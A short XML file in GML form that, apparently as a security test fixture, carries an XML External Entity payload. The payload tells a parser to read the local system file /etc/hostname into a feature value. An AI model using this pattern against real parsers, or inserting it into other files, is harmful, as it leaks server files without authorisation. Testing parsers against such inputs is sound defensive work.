<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:a="urn:a"><gml:featureMember><a:f><a:v>&e;</a:v></a:f></gml:featureMember></gml:FeatureCollection>
